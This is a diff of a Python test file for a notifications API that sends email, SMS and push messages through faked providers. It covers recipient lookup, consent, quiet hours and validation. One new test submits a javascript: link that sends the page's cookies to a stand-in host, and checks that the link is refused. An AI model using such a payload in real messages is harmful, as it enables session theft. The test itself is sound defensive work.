@@ -1,9 +1,10 @@
 """POST /v1/notifications/email|sms|push and the delivery log, with providers faked."""
 
 from shared.models.notification_delivery import NotificationDelivery
-from tests.factories import create_account
-from tests.notifications.conftest import FROM_ADDRESS
+from tests.factories import create_account, create_contact
+from tests.notifications.conftest import FROM_ADDRESS, configured_settings
 from tests.notifications.factories import (
+    create_account_user,
     create_delivery,
     create_preference,
     create_template,
@@ -13,35 +14,39 @@ from tests.notifications.factories import (
 )
 
 LEAD = {"lead_name": "Grace Hopper", "source": "the website", "lead_url": "https://x.test/l/1"}
-USER_ID = "650000000000000000000099"
 
 
-async def test_an_email_is_queued_then_sent_through_sendgrid(notifications, fake_providers):
+async def test_an_email_to_a_user_of_the_account_is_queued_then_sent_through_sendgrid(
+    notifications, fake_providers
+):
     account = await create_account(name="Acme Agency")
+    colleague = await create_account_user(account, email="ada@example.com")
 
     answer = await notifications.post(
         "/v1/notifications/email",
-        json={"to": "owner@example.com", "event": "new_lead", "data": LEAD},
+        json={"user_id": str(colleague.id), "event": "new_lead", "data": LEAD},
         headers=headers_for(account),
     )
 
     assert answer.status_code == 202, answer.text
     assert answer.json()["status"] == "queued"
+    assert answer.json()["to"] == "ada@example.com"
     assert answer.json()["subject"] == "New lead: Grace Hopper"
     delivery = await settled(answer.json()["id"])
     assert (delivery.status, delivery.provider) == ("sent", "sendgrid")
     (sent,) = fake_providers.requests["sendgrid"]
-    assert sent.json()["personalizations"] == [{"to": [{"email": "owner@example.com"}]}]
+    assert sent.json()["personalizations"] == [{"to": [{"email": "ada@example.com"}]}]
     # The fake answers X-Message-Id sg-<n>.
     assert delivery.provider_message_id.startswith("sg-")
 
 
 async def test_the_email_comes_from_the_accounts_brand(notifications, fake_providers):
     account = await create_account(name="Acme Agency", branding={"name": "Acme"})
+    colleague = await create_account_user(account)
 
     answer = await notifications.post(
         "/v1/notifications/email",
-        json={"to": "owner@example.com", "event": "new_lead", "data": LEAD},
+        json={"user_id": str(colleague.id), "event": "new_lead", "data": LEAD},
         headers=headers_for(account),
     )
 
@@ -51,32 +56,39 @@ async def test_the_email_comes_from_the_accounts_brand(notifications, fake_provi
     assert "Acme" in sent["content"][1]["value"]
 
 
-async def test_an_sms_is_sent_through_twilio(notifications, fake_providers):
+async def test_an_sms_to_a_contact_is_sent_through_twilio_to_their_number(
+    notifications, fake_providers
+):
     account = await create_account(name="Acme")
+    contact = await create_contact(account, phones=["+14155550100"])
 
     answer = await notifications.post(
         "/v1/notifications/sms",
-        json={"to": "+14155550100", "event": "new_lead", "data": LEAD},
+        json={"contact_id": str(contact.id), "event": "new_lead", "data": LEAD},
         headers=headers_for(account),
     )
 
     delivery = await settled(answer.json()["id"])
     assert (delivery.status, delivery.provider) == ("sent", "twilio")
-    assert fake_providers.requests["twilio"][0].form()["Body"] == (
-        "Acme: new lead Grace Hopper from the website"
+    assert (delivery.contact_id, delivery.to) == (str(contact.id), "+14155550100")
+    sent = fake_providers.requests["twilio"][0].form()
+    assert (sent["To"], sent["Body"]) == (
+        "+14155550100",
+        "Acme: new lead Grace Hopper from the website",
     )
 
 
 async def test_a_push_goes_to_fcm_or_expo_by_its_token(notifications, fake_providers):
     account = await create_account()
-    headers = headers_for(account)
-    push = {"event": "new_lead", "data": LEAD}
+    push = {"event": "new_lead", "data": LEAD, "account_id": str(account.id)}
 
     to_fcm = await notifications.post(
-        "/v1/notifications/push", json={**push, "to": "fcm-token"}, headers=headers
+        "/v1/notifications/push", json={**push, "to": "fcm-token"}, headers=service_headers()
     )
     to_expo = await notifications.post(
-        "/v1/notifications/push", json={**push, "to": "ExponentPushToken[abc]"}, headers=headers
+        "/v1/notifications/push",
+        json={**push, "to": "ExponentPushToken[abc]"},
+        headers=service_headers(),
     )
 
     assert (await settled(to_fcm.json()["id"])).provider == "fcm"
@@ -91,26 +103,32 @@ async def test_a_phone_number_not_in_e164_is_refused(notifications):
 
     answer = await notifications.post(
         "/v1/notifications/sms",
-        json={"to": "0612345678", "event": "new_lead", "data": LEAD},
-        headers=headers_for(account),
+        json={"to": "0612345678", "event": "new_lead", "data": LEAD, "account_id": str(account.id)},
+        headers=service_headers(),
     )
 
     assert answer.status_code == 422
     assert answer.json()["error"]["details"][0]["field"] == "body.to"
 
 
-async def test_a_missing_template_variable_is_refused_and_nothing_is_stored(
+async def test_a_send_missing_variables_names_each_one_and_stores_nothing(
     notifications, fake_providers
 ):
     account = await create_account()
+    colleague = await create_account_user(account)
 
     answer = await notifications.post(
         "/v1/notifications/email",
-        json={"to": "owner@example.com", "event": "new_lead", "data": {"lead_name": "Grace"}},
+        json={"user_id": str(colleague.id), "event": "new_lead", "data": {"lead_name": "Grace"}},
         headers=headers_for(account),
     )
 
     assert answer.status_code == 422
+    assert answer.json()["error"]["code"] == "missing_variables"
+    assert answer.json()["error"]["details"] == [
+        {"field": "body.data.lead_url", "message": "required by the template"},
+        {"field": "body.data.source", "message": "required by the template"},
+    ]
     assert await NotificationDelivery.find({"account_id": account.id}).count() == 0
     assert fake_providers.requests == {}
 
@@ -120,26 +138,28 @@ async def test_an_event_without_a_template_answers_404(notifications):
 
     answer = await notifications.post(
         "/v1/notifications/push",
-        json={"to": "fcm-token", "event": "password_reset"},
-        headers=headers_for(account),
+        json={"to": "fcm-token", "event": "password_reset", "account_id": str(account.id)},
+        headers=service_headers(),
     )
 
     assert answer.status_code == 404
+    assert answer.json()["error"]["code"] == "template_not_found"
 
 
 async def test_sending_needs_notifications_write(notifications):
     account = await create_account()
+    colleague = await create_account_user(account)
 
     answer = await notifications.post(
         "/v1/notifications/email",
-        json={"to": "owner@example.com", "event": "new_lead", "data": LEAD},
+        json={"user_id": str(colleague.id), "event": "new_lead", "data": LEAD},
         headers=headers_for(account, "notifications:read"),
     )
 
     assert answer.status_code == 403
 
 
-async def test_a_service_sends_for_the_account_it_names(notifications):
+async def test_a_service_sends_to_an_address_for_the_account_it_names(notifications):
     account = await create_account()
 
     answer = await notifications.post(
@@ -167,16 +187,18 @@ async def test_a_service_must_name_the_account(notifications):
     )
 
     assert answer.status_code == 422
+    assert answer.json()["error"]["code"] == "account_required"
     assert answer.json()["error"]["details"][0]["field"] == "body.account_id"
 
 
 async def test_a_user_cannot_send_for_another_account(notifications):
     account, other = await create_account(), await create_account()
+    colleague = await create_account_user(other)
 
     answer = await notifications.post(
         "/v1/notifications/email",
         json={
-            "to": "x@example.com",
+            "user_id": str(colleague.id),
             "event": "new_lead",
             "data": LEAD,
             "account_id": str(other.id),
@@ -185,18 +207,26 @@ async def test_a_user_cannot_send_for_another_account(notifications):
     )
 
     assert answer.status_code == 403
+    assert answer.json()["error"]["code"] == "not_your_account"
 
 
 async def test_a_recipient_who_turned_the_channel_off_is_logged_suppressed_and_not_sent(
     notifications, fake_providers
 ):
     account = await create_account()
-    await create_preference(account, USER_ID, channels={"sms": False})
+    colleague = await create_account_user(account)
+    await create_preference(account, str(colleague.id), channels={"sms": False})
 
     answer = await notifications.post(
         "/v1/notifications/sms",
-        json={"to": "+14155550100", "event": "new_lead", "data": LEAD, "user_id": USER_ID},
-        headers=headers_for(account),
+        json={
+            "to": "+14155550100",
+            "event": "new_lead",
+            "data": LEAD,
+            "user_id": str(colleague.id),
+            "account_id": str(account.id),
+        },
+        headers=service_headers(),
     )
 
     assert answer.status_code == 202
@@ -209,14 +239,21 @@ async def test_a_notification_during_quiet_hours_is_deferred_until_they_end(
     notifications, fake_providers
 ):
     account = await create_account()
+    colleague = await create_account_user(account)
     # Always quiet: from 00:00 to 23:59, so the test does not depend on the hour it runs.
     quiet = {"start": "00:00", "end": "23:59", "timezone": "UTC"}
-    await create_preference(account, USER_ID, quiet_hours=quiet)
+    await create_preference(account, str(colleague.id), quiet_hours=quiet)
 
     answer = await notifications.post(
         "/v1/notifications/push",
-        json={"to": "fcm-token", "event": "new_lead", "data": LEAD, "user_id": USER_ID},
-        headers=headers_for(account),
+        json={
+            "to": "fcm-token",
+            "event": "new_lead",
+            "data": LEAD,
+            "user_id": str(colleague.id),
+            "account_id": str(account.id),
+        },
+        headers=service_headers(),
     )
 
     assert answer.json()["status"] == "deferred"
@@ -226,16 +263,12 @@ async def test_a_notification_during_quiet_hours_is_deferred_until_they_end(
 
 async def test_marketing_email_carries_one_click_unsubscribe(notifications, fake_providers):
     account = await create_account()
+    reader = await create_account_user(account)
     await create_template(account, html='{% extends "layout.html" %}', marketing=True)
 
     answer = await notifications.post(
         "/v1/notifications/email",
-        json={
-            "to": "reader@example.com",
-            "event": "newsletter",
-            "data": {"first_name": "Ada"},
-            "user_id": USER_ID,
-        },
+        json={"user_id": str(reader.id), "event": "newsletter", "data": {"first_name": "Ada"}},
         headers=headers_for(account),
     )
 
@@ -249,15 +282,17 @@ async def test_marketing_email_carries_one_click_unsubscribe(notifications, fake
 
 async def test_marketing_email_needs_the_recipients_user_id(notifications):
     account = await create_account()
+    contact = await create_contact(account)
     await create_template(account, marketing=True)
 
     answer = await notifications.post(
         "/v1/notifications/email",
-        json={"to": "reader@example.com", "event": "newsletter", "data": {"first_name": "Ada"}},
+        json={"contact_id": str(contact.id), "event": "newsletter", "data": {"first_name": "Ada"}},
         headers=headers_for(account),
     )
 
     assert answer.status_code == 422
+    assert answer.json()["error"]["code"] == "marketing_needs_user"
     assert answer.json()["error"]["details"][0]["field"] == "body.user_id"
 
 
@@ -289,11 +324,103 @@ async def test_another_accounts_delivery_answers_404(notifications):
 
 async def test_a_template_variable_with_an_unusable_name_is_refused(notifications):
     account = await create_account()
+    colleague = await create_account_user(account)
 
     answer = await notifications.post(
         "/v1/notifications/email",
-        json={"to": "owner@example.com", "event": "new_lead", "data": {**LEAD, "a.b": "x"}},
+        json={"user_id": str(colleague.id), "event": "new_lead", "data": {**LEAD, "a.b": "x"}},
         headers=headers_for(account),
     )
 
     assert answer.status_code == 422
+
+
+async def test_a_template_over_a_limit_with_this_data_fails_the_delivery_saying_why(
+    notifications, fake_providers
+):
+    account = await create_account()
+    colleague = await create_account_user(account)
+    await create_template(account, text="{{ first_name * times }}", html="")
+
+    answer = await notifications.post(
+        "/v1/notifications/email",
+        json={
+            "user_id": str(colleague.id),
+            "event": "newsletter",
+            "data": {"first_name": "Ada", "times": 10**9},
+        },
+        headers=headers_for(account),
+    )
+
+    assert answer.status_code == 202, answer.text
+    assert answer.json()["status"] == "failed"
+    assert answer.json()["reason"] == (
+        "The template's text is over a limit: a repetition (*) makes 3,000,000,000 characters "
+        "or items; a template makes at most 200,000."
+    )
+    assert fake_providers.requests["sendgrid"] == []
+
+
+async def test_a_link_that_is_not_http_is_refused_and_nothing_is_stored(
+    notifications, fake_providers
+):
+    account = await create_account()
+    colleague = await create_account_user(account)
+
+    answer = await notifications.post(
+        "/v1/notifications/email",
+        json={
+            "user_id": str(colleague.id),
+            "event": "new_lead",
+            "data": {**LEAD, "lead_url": "javascript:fetch('//evil.test?'+document.cookie)"},
+        },
+        headers=headers_for(account),
+    )
+
+    assert answer.status_code == 422
+    assert answer.json()["error"]["code"] == "unsafe_link"
+    assert answer.json()["error"]["details"][0]["field"] == "body.data.lead_url"
+    assert await NotificationDelivery.find({"account_id": account.id}).count() == 0
+    assert fake_providers.requests == {}
+
+
+async def test_dates_in_an_email_are_in_the_accounts_time_zone(notifications, fake_providers):
+    account = await create_account(locale={"time_zone": "Asia/Tokyo"})
+    colleague = await create_account_user(account)
+    task = {
+        "assigner_name": "Ada",
+        "task_title": "Call Grace",
+        "due_date": "2026-12-01T23:30:00Z",
+        "task_url": "https://x.test/t/1",
+    }
+
+    answer = await notifications.post(
+        "/v1/notifications/email",
+        json={"user_id": str(colleague.id), "event": "task_assigned", "data": task},
+        headers=headers_for(account),
+    )
+
+    assert answer.status_code == 202, answer.text
+    assert "(due 2 December 2026)" in answer.json()["text"]
+
+
+async def test_dates_follow_the_platform_default_when_the_account_sets_none(
+    start_notifications,
+):
+    account = await create_account()
+    colleague = await create_account_user(account)
+    task = {
+        "assigner_name": "Ada",
+        "task_title": "Call Grace",
+        "due_date": "2026-12-01T23:30:00Z",
+        "task_url": "https://x.test/t/1",
+    }
+
+    async with start_notifications(configured_settings(default_time_zone="Asia/Tokyo")) as client:
+        answer = await client.post(
+            "/v1/notifications/email",
+            json={"user_id": str(colleague.id), "event": "task_assigned", "data": task},
+            headers=headers_for(account),
+        )
+
+    assert "(due 2 December 2026)" in answer.json()["text"]
